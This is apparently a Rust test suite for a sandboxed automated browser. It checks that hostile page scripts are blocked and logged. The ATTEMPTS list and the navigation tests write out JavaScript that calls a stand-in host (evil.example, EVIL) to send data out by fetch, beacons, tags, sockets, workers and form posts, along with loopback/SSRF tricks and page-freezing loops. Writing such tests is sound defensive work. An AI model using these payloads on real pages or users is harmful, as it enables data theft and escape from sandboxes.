//! What a hostile page tries. Nothing of it reaches another host, this machine or another window, and none of it holds the
//! walk up for longer than its time.

use std::net::UdpSocket;

use recipe::{NetworkFault, Session};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::bank::{Answer, Bank};
use crate::stage::{
    CountingDesk, browser, browser_at, click, limits, open, short_limits, text, until,
};

/// Another server on this machine; whatever reaches it has left the fence.
struct Evil {
    bank: Bank,
    udp: UdpSocket,
}

impl Evil {
    async fn open() -> Evil {
        let bank =
            Bank::open(|_| Answer::page("gotcha").with("Access-Control-Allow-Origin", "*")).await;
        let udp = UdpSocket::bind(bank.address).expect("the same port");
        udp.set_nonblocking(true).expect("a socket");
        Evil { bank, udp }
    }

    /// And whoever comes would be seen.
    async fn was_not_reached(&self) {
        assert_eq!(self.reached(), Vec::<String>::new());
        let address = self.bank.address;
        let sender = UdpSocket::bind("127.0.0.1:0").expect("a socket");
        sender.send_to(b"x", address).expect("is sent");
        let mut stream = TcpStream::connect(address).await.expect("it listens");
        let asked = b"GET /x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n";
        stream.write_all(asked).await.expect("is asked");
        stream
            .read_to_end(&mut Vec::new())
            .await
            .expect("is answered");
        assert_eq!(self.reached(), ["GET /x", "a datagram"]);
    }

    fn reached(&self) -> Vec<String> {
        let mut reached = self.bank.lines();
        if self.udp.recv(&mut [0; 100]).is_ok() {
            reached.push("a datagram".to_owned());
        }
        reached
    }
}

/// Runs `attempt` (with `EVIL` for the other server's host and port), and says "done" when it has come to an end.
fn attempt(script: &str, evil: &Evil) -> String {
    let script = script.replace("EVIL", &evil.bank.address.to_string());
    format!(
        r#"<p></p><script>
        const load = (tag, attributes) => new Promise((done) => {{
          const element = document.createElement(tag);
          element.onload = element.onerror = done;
          Object.assign(element, attributes);
          document.body.append(element);
          setTimeout(done, 400);
        }});
        const soon = () => new Promise((done) => setTimeout(done, 300));
        (async () => {{ try {{ {script} }} catch (fault) {{ document.body.append(fault); }} document.body.append("done"); }})();
        </script>"#
    )
}

/// What is tried, and what the trace says of it; or, behind SAYS, what the page says itself.
const ATTEMPTS: [(&str, &str); 30] = [
    (
        "await fetch('https://evil.example/x')",
        "cut: GET https://evil.example/x",
    ),
    ("await fetch('http://EVIL/x')", "cut: GET http://EVIL/x"),
    (
        "await fetch('https://127.0.0.1/x', { mode: 'no-cors' })",
        "cut: GET https://127.0.0.1/x",
    ),
    (
        "await fetch('http://localhost:1/x')",
        "cut: GET http://localhost:1/x",
    ),
    (
        "await fetch('http://[::1]:1/x')",
        "cut: GET http://[::1]:1/x",
    ),
    (
        "await fetch('http://2130706433/x')",
        "cut: GET http://127.0.0.1/x",
    ),
    (
        "await fetch('//user@bank.example/page')",
        "SAYS from a URL that includes credentials",
    ),
    (
        "await fetch('https://bank.example.evil.example/page')",
        "cut: GET https://bank.example.evil.example/page",
    ),
    (
        "await fetch('https://bank.example:8443/page')",
        "cut: GET https://bank.example:8443/page",
    ),
    (
        "await fetch('/page/..%2fsecret')",
        "cut: GET https://bank.example/page/..%2fsecret",
    ),
    (
        "await fetch('/transfer', { method: 'POST', body: 'x' })",
        "cut: POST https://bank.example/transfer",
    ),
    (
        "await fetch('/page', { method: 'DELETE' })",
        "cut: other https://bank.example/page",
    ),
    (
        "await new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('PUT', '/page/put'); x.send(); })",
        "cut: other https://bank.example/page/put",
    ),
    (
        "navigator.sendBeacon('http://EVIL/x', 'x'); await soon()",
        "cut: POST http://EVIL/x",
    ),
    (
        "navigator.sendBeacon('/search', 'x'); await soon()",
        "cut: POST https://bank.example/search",
    ),
    (
        "await load('img', { src: 'http://EVIL/x.png' })",
        "cut: GET http://EVIL/x.png",
    ),
    (
        "await load('img', { src: '/page/pixel' })",
        "cut: GET https://bank.example/page/pixel",
    ),
    (
        "await load('script', { src: 'http://EVIL/x.js' })",
        "cut: GET http://EVIL/x.js",
    ),
    (
        "await load('link', { rel: 'stylesheet', href: 'http://EVIL/x.css' })",
        "cut: GET http://EVIL/x.css",
    ),
    (
        "await load('link', { rel: 'prefetch', href: 'http://EVIL/p' }); await load('link', { rel: 'preconnect', href: 'http://EVIL' }); await load('link', { rel: 'dns-prefetch', href: 'http://EVIL' })",
        "cut: GET http://EVIL/p",
    ),
    (
        "await load('iframe', { src: 'http://EVIL/f' })",
        "cut: GET http://EVIL/f",
    ),
    (
        "await load('iframe', { srcdoc: '<script>fetch(\"http://EVIL/inner\")</scr' + 'ipt>' }); await soon()",
        "cut: GET http://EVIL/inner",
    ),
    (
        "await load('object', { data: 'http://EVIL/o' })",
        "cut: GET http://EVIL/o",
    ),
    (
        "new WebSocket('ws://EVIL/s'); await soon()",
        "cut: web socket to 127.0.0.1",
    ),
    (
        "new EventSource('/page/stream'); await soon()",
        "cut: GET https://bank.example/page/stream",
    ),
    (
        "new Worker(window.URL.createObjectURL(new Blob(['fetch(\"http://EVIL/w\"); new WebSocket(\"ws://EVIL/\")']))); await soon()",
        "cut: GET http://EVIL/w",
    ),
    (
        "await Promise.race([navigator.serviceWorker.register('/page/sw.js'), soon()])",
        "cut: service worker",
    ),
    (
        "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:EVIL' }, { urls: 'turn:EVIL?transport=tcp', username: 'a', credential: 'b' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await soon()",
        "SAYS ReferenceError: RTCPeerConnection is not defined",
    ),
    (
        "await new WebTransport('https://EVIL/x').ready",
        "SAYS ReferenceError: WebTransport is not defined",
    ),
    (
        "const work = 'new WebTransport(\"https://EVIL/x\").ready.then(() => postMessage(\"open\"), (fault) => postMessage(fault.name))'; const worker = new Worker(window.URL.createObjectURL(new Blob([work]))); await new Promise((done) => { worker.onmessage = (said) => done(document.body.append(said.data)); setTimeout(done, 5000); })",
        "SAYS WebTransportError",
    ),
];

#[tokio::test]
async fn what_a_script_asks_for_outside_of_the_fence_is_cut_and_noted() {
    let evil = Evil::open().await;
    let address = evil.bank.address.to_string();
    let pages: Vec<String> = ATTEMPTS
        .iter()
        .map(|(script, _)| attempt(script, &evil))
        .collect();
    let bank = Bank::open(move |seen| {
        let page = seen.line.strip_prefix("GET /page/").and_then(|number| {
            let number: usize = number.parse().ok()?;
            pages.get(number)
        });
        page.map_or_else(|| Answer::page("<p>?</p>"), |page| Answer::page(page))
    })
    .await;
    let mut session = browser(&bank).await;
    for (number, (script, note)) in ATTEMPTS.iter().enumerate() {
        let page = open(&format!("/page/{number}"));
        let page = until(&mut session, &page, "done</body>").await;
        let page = page.unwrap_or_else(|fault| panic!("{script}: {fault:?}"));
        let (notes, page) = (session.notes(), text(&page));
        let note = note.replace("EVIL", &address);
        let is_seen = match note.strip_prefix("SAYS ") {
            Some(said) => page.contains(said),
            None => notes.contains(&note),
        };
        assert!(is_seen, "{script}: {notes:?} {page}");
    }
    session.close().await;
    evil.was_not_reached().await;
    let asked: Vec<String> = bank
        .lines()
        .into_iter()
        .filter(|line| {
            let number = line.strip_prefix("GET /page/");
            number.is_none_or(|number| number.parse::<usize>().is_err())
        })
        .collect();
    assert_eq!(
        asked,
        Vec::<String>::new(),
        "the bank itself was asked for nothing else either"
    );
}

#[tokio::test]
async fn a_tab_that_leaves_the_fence_ends_the_walk_and_can_still_log_out() {
    let evil = Evil::open().await;
    let leaving = [
        (
            "location.href = 'https://evil.example/x'",
            "GET https://evil.example/x",
        ),
        ("location.replace('http://EVIL/x')", "GET http://EVIL/x"),
        ("window.open('http://EVIL/x')", "GET http://EVIL/x"),
        (
            "document.body.innerHTML = '<form action=\"http://EVIL/x\" method=post target=w></form>'; document.forms[0].submit()",
            "POST http://EVIL/x",
        ),
        (
            "document.head.innerHTML = '<meta http-equiv=refresh content=\"0; url=http://EVIL/x\">'",
            "GET http://EVIL/x",
        ),
        (
            "location.href = '/transfer'",
            "GET https://bank.example/transfer",
        ),
        ("location.href = '/page/to-loopback'", "GET http://EVIL/x"),
        (
            "location.href = '/page/to-other'",
            "GET https://evil.example/",
        ),
    ];
    let (loopback, script) = (evil.bank.address, leaving.map(|(script, _)| script));
    let pages: Vec<String> = script
        .iter()
        .map(|script| {
            let script = script.replace("EVIL", &loopback.to_string());
            format!("<button>go</button><script>document.querySelector('button').onclick = () => {{ {script} }}</script>")
        })
        .collect();
    let bank = Bank::open(move |seen| match seen.line.as_str() {
        "GET /page/to-loopback" => Answer::redirect("302 Found", &format!("http://{loopback}/x")),
        "GET /page/to-other" => Answer::redirect("303 See Other", "https://evil.example/"),
        "GET /logout" => Answer::page("<p>bye</p>"),
        line => {
            let number = line
                .rsplit('/')
                .next()
                .and_then(|number| number.parse::<usize>().ok());
            Answer::page(number.map_or("?", |number| pages[number].as_str()))
        }
    })
    .await;
    let mut session = browser(&bank).await;
    for (number, (script, to)) in leaving.iter().enumerate() {
        until(&mut session, &open(&format!("/page/{number}")), "go")
            .await
            .expect("a page");
        let went = until(
            &mut session,
            &click(number, "button:nth-child(1)"),
            "gotcha",
        )
        .await;
        let expected = to.replace("EVIL", &loopback.to_string());
        match went {
            Err(NetworkFault::FenceBroken { to, .. }) => assert_eq!(to, expected, "{script}"),
            other => panic!("{script}: {other:?}"),
        }
    }
    until(&mut session, &open("/logout"), "bye")
        .await
        .expect("a page");
    session.close().await;
    evil.was_not_reached().await;
}

#[tokio::test]
async fn a_page_that_never_comes_to_rest_is_left() {
    for (script, is_left_as) in [
        ("location.reload()", NetworkFault::Restless),
        ("while (true) alert('x')", NetworkFault::Restless),
        (
            "setInterval(() => { for (let n = 0; n < 50; n++) fetch('/page/' + n) }, 1)",
            NetworkFault::Restless,
        ),
        (
            "setInterval(() => document.body.append('x'.repeat(9999)), 1)",
            NetworkFault::TooLarge,
        ),
        ("while (true) {}", NetworkFault::Slow { sent: true }),
        (
            "setInterval(() => history.pushState(0, '', '/page/' + Math.random()), 1)",
            NetworkFault::Slow { sent: true },
        ),
    ] {
        let page = format!("<p></p><script>setTimeout(() => {{ {script} }})</script>");
        let bank = Bank::open(move |_| Answer::page(&page)).await;
        let limits = if matches!(is_left_as, NetworkFault::Slow { .. }) {
            short_limits()
        } else {
            limits()
        };
        let mut session = browser_at(bank.address, limits, CountingDesk::default()).await;
        let came = until(&mut session, &open("/page"), "never").await;
        assert_eq!(came, Err(is_left_as), "{script}");
        session.close().await;
    }
}

#[tokio::test]
async fn a_page_larger_than_allowed_is_refused() {
    let bank = Bank::open(|_| Answer::page(&"x".repeat(400_000))).await;
    let mut session = browser(&bank).await;
    let came = until(&mut session, &open("/page"), "x").await;
    assert_eq!(came, Err(NetworkFault::TooLarge));
    session.close().await;
}
